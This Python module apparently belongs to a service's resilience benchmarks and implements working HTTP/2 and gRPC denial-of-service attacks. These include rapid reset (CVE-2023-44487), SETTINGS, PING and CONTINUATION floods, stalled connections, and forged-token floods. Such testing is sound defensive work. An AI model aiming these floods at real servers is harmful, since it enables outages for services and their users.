"""Attacks on the port, each from a process of its own: ``python -m benchmarks._attacks NAME ADDRESS SOURCE [KEY]``.

It prints "ready" when the attack is under way, goes on until its standard input ends, and then prints what it did.
A connection that the server closes is opened again, from SOURCE, an address of this machine.
"""

from __future__ import annotations

import base64
import json
import os
import resource
import secrets
import select
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count, cycle, repeat

from hpack import Encoder

from benchmarks._attack_lines import GREETING, Attack, flood, held
from benchmarks._attack_streams import mp4_streams
from benchmarks._raw_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    frame,
    grpc_message,
)

STALLED, TRICKLING, STUFFED, FORGING = 500, 200, 300, 50
MOST_HEADERS = 15 * 1024 * 1024
"""gRPC ends a connection that sends 16 MiB before it answers the settings."""
UPLOAD = "/vestibule.v1.MediaService/Upload"
GET = "/vestibule.v1.SessionService/GetSession"
HEALTH = "/grpc.health.v1.Health/Check"
ISSUER, AUDIENCE = "https://issuer.example", "vestibule"


def stall(attack: Attack) -> Callable[[], None]:
    """Connections that say nothing, only greet, only open a call, or stop within a frame."""
    half = frame(HEADERS, END_HEADERS, 1, bytes(100))[:20]
    open_call = frame(HEADERS, END_HEADERS, 1, attack.headers(GET))
    upload = frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD)) + frame(DATA, 0, 1, grpc_message(b"", claimed=9000))
    openings = cycle((b"", GREETING, GREETING + open_call, GREETING + half, GREETING + upload[:-3]))
    return held(attack, STALLED, openings, drip=b"", every_s=1.0)


def trickle(attack: Attack) -> Callable[[], None]:
    """A byte a second: into the messages of an upload, and into the header of a frame."""
    upload = GREETING + frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
    return held(attack, TRICKLING, cycle((upload, GREETING)), drip=b"\0", every_s=1.0)


def rapid_reset(attack: Attack) -> Callable[[], None]:
    """Calls that are opened, some with a request, and reset at once (CVE-2023-44487)."""
    block, request = attack.headers(GET), grpc_message(b"")

    def pieces() -> Iterator[bytes]:
        yield frame(SETTINGS, ACK, 0)  # otherwise gRPC's core refuses all calls but the first
        for stream in count(1, 2):
            data = frame(DATA, 0, stream, request) if stream % 4 == 1 else b""
            yield frame(HEADERS, END_HEADERS, stream, block) + data + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")

    return flood(attack, pieces)


def settings_flood(attack: Attack) -> Callable[[], None]:
    """SETTINGS frames, each of which asks for an answer (CVE-2019-9515)."""
    return flood(attack, lambda: cycle((frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"),)))


def ping_flood(attack: Attack) -> Callable[[], None]:
    """PING frames, each of which asks for an answer (CVE-2019-9512)."""
    return flood(attack, lambda: cycle((frame(PING, 0, 0, bytes(8)),)))


def continuation_flood(attack: Attack) -> Callable[[], None]:
    """A header block that never ends (CVE-2024-27316)."""
    field_line = Encoder().encode([("x-flood", os.urandom(400).hex())])

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, attack.headers(GET))
        yield from cycle((frame(CONTINUATION, 0, 1, field_line),))

    return flood(attack, pieces)


def empty_data_flood(attack: Attack) -> Callable[[], None]:
    """Empty DATA frames in one call (CVE-2019-9518)."""

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
        yield from cycle((frame(DATA, 0, 1),))

    return flood(attack, pieces)


def connect_flood(attack: Attack) -> Callable[[], None]:
    """Connections that are opened and closed as fast as possible."""

    def step() -> None:
        client = attack.connect(GREETING)
        if client is not None:
            attack.drop(client)
            attack.sent += 1

    return step


def header_flood(attack: Attack) -> Callable[[], None]:
    """Headers on many connections, which gRPC keeps in memory until the settings are answered, and then no end."""
    field_line = Encoder().encode([("x-flood", os.urandom(1000).hex())])
    most_frames = MOST_HEADERS // len(field_line)

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, attack.headers(GET))
        yield from repeat(frame(CONTINUATION, 0, 1, field_line), most_frames)

    return flood(attack, pieces, STUFFED)


def bad_credentials(attack: Attack) -> Callable[[], None]:
    """Calls with keys and tokens made up at random, each token with another key id."""

    def pieces() -> Iterator[bytes]:
        yield frame(SETTINGS, ACK, 0)
        for stream in count(1, 2):
            forged = f"vst_{secrets.token_hex(8)}_{secrets.token_urlsafe(32)}" if stream % 4 == 1 else forged_token()
            block = attack.headers(GET, [("authorization", f"Bearer {forged}")])
            request = frame(DATA, END_STREAM, stream, grpc_message(b""))
            yield frame(HEADERS, END_HEADERS, stream, block) + request

    return flood(attack, pieces, FORGING, batch_bytes=4096)


def health_checks(attack: Attack) -> Callable[[], None]:
    """Health checks, which need no credential, as small as they can be."""
    block, request = attack.headers(HEALTH, ()), grpc_message(b"")

    def pieces() -> Iterator[bytes]:
        yield frame(SETTINGS, ACK, 0)
        for stream in count(1, 2):
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, request)

    return flood(attack, pieces)


def forged_token() -> str:
    """A token like those of an issuer, with a random signature."""
    head = {"alg": "RS256", "typ": "JWT", "kid": secrets.token_hex(8)}
    claims = {"iss": ISSUER, "aud": AUDIENCE, "sub": "stranger", "exp": int(time.time()) + 600, "scope": "app"}
    parts = json.dumps(head).encode(), json.dumps(claims).encode(), secrets.token_bytes(256)
    return ".".join(base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in parts)


ATTACKS: dict[str, Callable[[Attack], Callable[[], None]]] = {
    "stall": stall,
    "trickle": trickle,
    "rapid reset": rapid_reset,
    "settings flood": settings_flood,
    "ping flood": ping_flood,
    "continuation flood": continuation_flood,
    "empty data flood": empty_data_flood,
    "connect flood": connect_flood,
    "header flood": header_flood,
    "bad credentials": bad_credentials,
    "health checks": health_checks,
    "mp4 streams": mp4_streams,
}


def main(name: str, address: str, source: str, key: str = "") -> None:
    os.nice(19)  # in earnest it has a machine of its own; here it must not take the processor from the server
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    attack = Attack(address, source, [("authorization", f"Bearer {key}")] if key else ())
    step = ATTACKS[name](attack)
    print("ready", flush=True)
    began = time.monotonic()
    while not any(select.select([sys.stdin], [], [], 0)):
        step()
    did = {"sent": attack.sent, "reopened": attack.reopened, "refused": attack.refused}
    print(json.dumps(did | {"seconds": round(time.monotonic() - began, 1)}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
